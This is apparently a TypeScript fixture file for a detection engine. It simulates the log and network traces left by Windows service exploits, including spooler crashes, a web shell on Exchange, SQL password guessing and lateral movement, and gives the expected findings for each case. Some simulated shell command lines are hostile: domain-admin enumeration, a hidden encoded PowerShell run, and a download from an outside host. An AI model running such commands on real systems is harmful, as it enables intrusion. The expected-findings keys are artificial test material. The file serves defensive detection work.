import type { Process } from '../acts/windows.ts';
import { fileCreated, hostCrashed, moduleLoaded, remoteDesktop, sqlLogin } from '../acts/windows-events.ts';
import type { Item } from '../item.ts';
import { type Case, type CaseTruth, exploited, type Setting } from './case.ts';
import { SYSTEM32, WindowsServer } from './windows-server.ts';

/** An exploit of a Windows service, by what it leaves behind. Absent: nothing of the kind. */
interface Exploit {
  readonly id: string;
  readonly title: string;
  readonly truth: CaseTruth;
  readonly parameters?: Readonly<Record<string, string>>;
  readonly role: string;
  /** Port of the access, and what listens there. */
  readonly port: number;
  readonly service: {
    readonly image: string;
    readonly display: string;
    readonly commandLine?: string;
    readonly user?: string;
  };
  readonly intruder: string;
  /** Connections of the access, and how many of them fail; one that succeeds where absent. */
  readonly burst?: readonly [count: number, failed: number];
  readonly crash?: 'restarted' | 'ended' | 'host';
  readonly shell?: readonly [image: string, commandLine: string];
  /** Where the shell connects to. */
  readonly next?: readonly (readonly [to: string, port: number])[];
  readonly beforeWindows10?: true;
  more?(server: WindowsServer, setting: Setting, service: Process): readonly Item[];
}

const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYSTEM32}\\cmd.exe`;
const SPOOLER = { image: `${SYSTEM32}\\spoolsv.exe`, display: 'Print Spooler' };

const truth = (...findings: CaseTruth['findings']): CaseTruth => ({ findings, nothingAbove: 'low' });

const EXPLOITS: readonly Exploit[] = [
  {
    id: 'win-spooler',
    title: 'Print spooler: failing connections, crash, shell, next hops',
    truth: truth(exploited('windows', 'FS01', 'A2 B1 B4 C1 D1', 'critical')),
    role: 'FS01',
    port: 445,
    service: SPOOLER,
    intruder: '10.31.9.66',
    burst: [41, 28],
    crash: 'restarted',
    shell: [CMD, 'cmd.exe /c whoami & net group "Domain Admins" /domain'],
    next: [
      ['10.31.0.30', 445],
      ['10.31.0.31', 5985],
    ],
  },
  {
    id: 'win-spooler-old',
    title: 'The same on a Windows whose audit policy names no parents',
    truth: truth(exploited('windows', 'FS02', 'A2 B1 C1 D1', 'critical')),
    role: 'FS02',
    port: 445,
    service: SPOOLER,
    intruder: '10.31.9.67',
    burst: [30, 12],
    crash: 'ended',
    shell: [CMD, 'cmd.exe /c net user'],
    next: [['10.31.0.40', 445]],
    beforeWindows10: true,
  },
  {
    id: 'win-spooler-german',
    title: 'The same on a German Windows, where services have other names',
    truth: truth(exploited('windows', 'DRUCK1', 'A2 B1 C1', 'high')),
    role: 'DRUCK1',
    port: 445,
    service: { ...SPOOLER, display: 'Druckwarteschlange' },
    intruder: '10.31.9.69',
    burst: [20, 10],
    crash: 'ended',
    shell: [POWERSHELL, 'powershell.exe -nop -c hostname'],
  },
  {
    id: 'win-eternalblue',
    title: 'Kernel exploit over SMB: no crash, the payload in the spooler, a connection back',
    truth: truth(exploited('windows', 'FS03', 'C1 D4', 'high')),
    role: 'FS03',
    port: 445,
    service: SPOOLER,
    intruder: '10.31.9.68',
    shell: [CMD, 'cmd.exe'],
    next: [['10.31.9.68', 4444]],
    more: (server, { clock }) =>
      // The groom: connections that carry a few bytes each and are closed together.
      Array.from({ length: 17 }, (_, i) =>
        server.sensor.flow({
          at: clock('14:02:09') + i * 30_000,
          from: '10.31.9.68',
          to: server.ip,
          port: 445,
          state: i % 3 === 0 ? 'S1' : 'RSTO',
          seconds: 3,
          sent: 137,
          received: 190,
        }),
      ),
  },
  {
    id: 'win-printnightmare',
    title: 'Printer driver as a library: file, module and shell of the spooler, fetched from the intruder',
    truth: truth(exploited('windows', 'PRN1', 'A1 C1 C2 C4 D4', 'high')),
    role: 'PRN1',
    port: 445,
    service: SPOOLER,
    intruder: '10.31.9.70',
    shell: [`${SYSTEM32}\\rundll32.exe`, 'rundll32.exe'],
    more: (server, { clock }, service) => {
      const library = 'C:\\Windows\\System32\\spool\\drivers\\x64\\3\\Old\\1\\upd.dll';
      server.connect(clock('14:04:58'), service, '10.31.9.70', 445);
      return [
        fileCreated(server.machine, clock('14:05:01'), service, library),
        moduleLoaded(server.machine, clock('14:05:02'), service, library),
      ];
    },
  },
  {
    id: 'win-w3wp',
    title: 'Exchange behind IIS: a web shell written and used',
    truth: truth(exploited('windows', 'MX01', 'A1 C1 C4', 'medium')),
    parameters: { 'windows.ServicePortSet': '443,445,135,3389,5985,5986,1433,3306' },
    role: 'MX01',
    port: 443,
    service: {
      image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      display: 'World Wide Web Publishing Service',
      commandLine: 'w3wp.exe -ap "MSExchangeOWAAppPool"',
    },
    intruder: '203.0.113.90',
    shell: [CMD, 'cmd.exe /c whoami'],
    more: (server, { clock }, service) => [
      fileCreated(server.machine, clock('14:05:01'), service, 'C:\\inetpub\\wwwroot\\aspnet_client\\e.aspx'),
    ],
  },
  {
    id: 'win-mssql',
    title: 'SQL Server: passwords guessed, then a command shell and a next hop',
    truth: truth(exploited('windows', 'SQL1', 'A1 C1 D1', 'high')),
    role: 'SQL1',
    port: 1433,
    service: {
      image: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe',
      display: 'SQL Server (MSSQLSERVER)',
      user: 'NT SERVICE\\MSSQLSERVER',
    },
    intruder: '10.31.9.72',
    shell: [CMD, '"C:\\Windows\\system32\\cmd.exe" /c whoami'],
    next: [['10.31.0.33', 445]],
    more: (server, { clock }) => [
      ...Array.from({ length: 14 }, (_, i) =>
        sqlLogin(server.machine, clock('14:02:11') + i * 2e6, 'sa', '10.31.9.72', true),
      ),
      sqlLogin(server.machine, clock('14:03:20'), 'sa', '10.31.9.72', false),
    ],
  },
  {
    id: 'win-termservice',
    title: 'Remote Desktop Services crash under failing connections, no shell',
    truth: truth(exploited('windows', 'TS01', 'A2 B1', 'medium', 'medium')),
    role: 'TS01',
    port: 3389,
    service: {
      image: `${SYSTEM32}\\svchost.exe`,
      display: 'Remote Desktop Services',
      commandLine: 'C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService',
    },
    intruder: '10.31.9.73',
    burst: [24, 17],
    crash: 'ended',
    more: (server, { clock }) =>
      Array.from({ length: 6 }, (_, i) =>
        remoteDesktop(server.machine, clock('14:02:12') + i * 2e6, '10.31.9.73', i % 2 === 1),
      ),
  },
  {
    id: 'win-bluekeep-failed',
    title: 'Remote Desktop: the attempt ends in a stop code',
    truth: truth(exploited('windows', 'TS02', 'A2 B3', 'low', 'low')),
    role: 'TS02',
    port: 3389,
    service: {
      image: `${SYSTEM32}\\svchost.exe`,
      display: 'Remote Desktop Services',
      commandLine: 'C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService',
    },
    intruder: '10.31.9.74',
    burst: [26, 20],
    crash: 'host',
  },
  {
    id: 'win-smbghost',
    title: 'SMB compression: the machine stops with an error',
    truth: truth(exploited('windows', 'FS04', 'A2 B3', 'low', 'low')),
    role: 'FS04',
    port: 445,
    service: SPOOLER,
    intruder: '10.31.9.75',
    burst: [16, 12],
    crash: 'host',
  },
  {
    id: 'win-lsass',
    title: 'Payload in lsass of a member server, a tool of the intruder and a peer',
    truth: truth(exploited('windows', 'APP3', 'A2 C1 D1', 'high')),
    role: 'APP3',
    port: 445,
    service: { image: `${SYSTEM32}\\lsass.exe`, display: 'Security Accounts Manager' },
    intruder: '10.31.9.76',
    burst: [22, 9],
    shell: [POWERSHELL, 'powershell.exe -nop -w hidden -enc SQBFAFgA'],
    next: [['10.31.0.51', 3389]],
  },
  {
    id: 'win-mysql',
    title: 'MySQL on Windows: a function of the intruder starts a shell',
    truth: truth(exploited('windows', 'WEB9', 'A1 C1 D3', 'medium')),
    role: 'WEB9',
    port: 3306,
    service: {
      image: 'C:\\Program Files\\MySQL\\bin\\mysqld.exe',
      display: 'MySQL80',
      user: 'NT AUTHORITY\\NETWORK SERVICE',
    },
    intruder: '10.31.9.77',
    shell: [POWERSHELL, 'powershell.exe -c iwr http://198.51.100.7/a'],
    next: [['198.51.100.7', 80]],
  },
];

/** 14:02:11 the access, 14:02:28 the crash, 14:05:12 the shell, 14:08 the next hops. */
function tell(exploit: Exploit, setting: Setting): readonly Item[] {
  const { clock, random } = setting;
  const { port, intruder, service } = exploit;
  const server = new WindowsServer(setting, exploit.role, `10.31.0.${random.between(60, 90)}`, [port, 445], {
    hasParentNames: exploit.beforeWindows10 !== true,
  });
  const { machine, sensor, items } = server;
  let process = server.service(service.image, service.commandLine, service.user);
  const hit = clock('14:02:11');
  if (exploit.burst !== undefined) {
    items.push(...sensor.burst(...exploit.burst, { at: hit, from: intruder, to: server.ip, port }));
  }
  if (port === 445) items.push(machine.logon(hit + 3e6, 'NT AUTHORITY\\ANONYMOUS LOGON', 3, intruder));

  const crash = clock('14:02:28.4');
  if (exploit.crash === 'host') items.push(...hostCrashed(machine, crash, clock('14:04:10')));
  else if (exploit.crash !== undefined) {
    process = server.crashed(crash, process, service.display, exploit.crash === 'restarted');
  }

  if (exploit.shell !== undefined) {
    items.push(
      sensor.flow({
        at: clock('14:04:50'),
        from: intruder,
        to: server.ip,
        port,
        seconds: 20,
        sent: 48_211,
        received: 9120,
      }),
    );
  }
  items.push(...(exploit.more?.(server, setting, process) ?? []));
  if (exploit.shell !== undefined) {
    const shell = server.child(clock('14:05:12.1'), process, ...exploit.shell);
    server.child(clock('14:05:12.6'), shell, `${SYSTEM32}\\whoami.exe`, 'whoami');
    for (const [i, [to, next]] of (exploit.next ?? []).entries()) {
      server.connect(clock('14:08:00') + i * 25e6, shell, to, next);
    }
  }
  return items;
}

/** One server is taken, and from there the next: the second chain begins where the first one ends. */
function twoServers(setting: Setting): readonly Item[] {
  const { clock } = setting;
  const first = new WindowsServer(setting, 'HOP1', '10.31.0.95', [445]);
  const second = new WindowsServer(setting, 'HOP2', '10.31.0.96', [445]);
  for (const [server, from, at] of [
    [first, '10.31.9.80', clock('14:02:11')],
    [second, first.ip, clock('14:12:40')],
  ] as const) {
    const { machine, items, sensor } = server;
    const spooler = server.service(SPOOLER.image);
    items.push(
      ...sensor.burst(24, 14, { at, from, to: server.ip, port: 445 }),
      machine.applicationError(at + 11e6, 'spoolsv.exe', 'ntdll.dll', 'c0000005', spooler.pid),
      machine.serviceCrashed(at + 11.3e6, SPOOLER.display),
    );
    const again = machine.process(SPOOLER.image);
    server.start(at + 71e6, again, server.services);
    items.push(
      sensor.flow({ at: at + 100e6, from, to: server.ip, port: 445, seconds: 9, sent: 40_000, received: 5000 }),
    );
    server.child(at + 105e6, again, CMD, 'cmd.exe /c ipconfig /all');
  }
  return [...first.items, ...second.items];
}

export const WINDOWS_CASES: readonly Case[] = [
  ...EXPLOITS.map(
    (exploit): Case => ({
      id: exploit.id,
      kind: 'positive',
      title: exploit.title,
      truth: exploit.truth,
      parameters: exploit.parameters ?? {},
      tell: setting => tell(exploit, setting),
    }),
  ),
  {
    id: 'win-two-servers',
    kind: 'positive',
    title: 'A server is exploited, and from it the next one',
    truth: truth(
      exploited('windows', 'HOP1', 'A2 B1 C1 D2', 'critical'),
      exploited('windows', 'HOP2', 'A2 B1 C1', 'high'),
    ),
    parameters: {},
    tell: twoServers,
  },
];
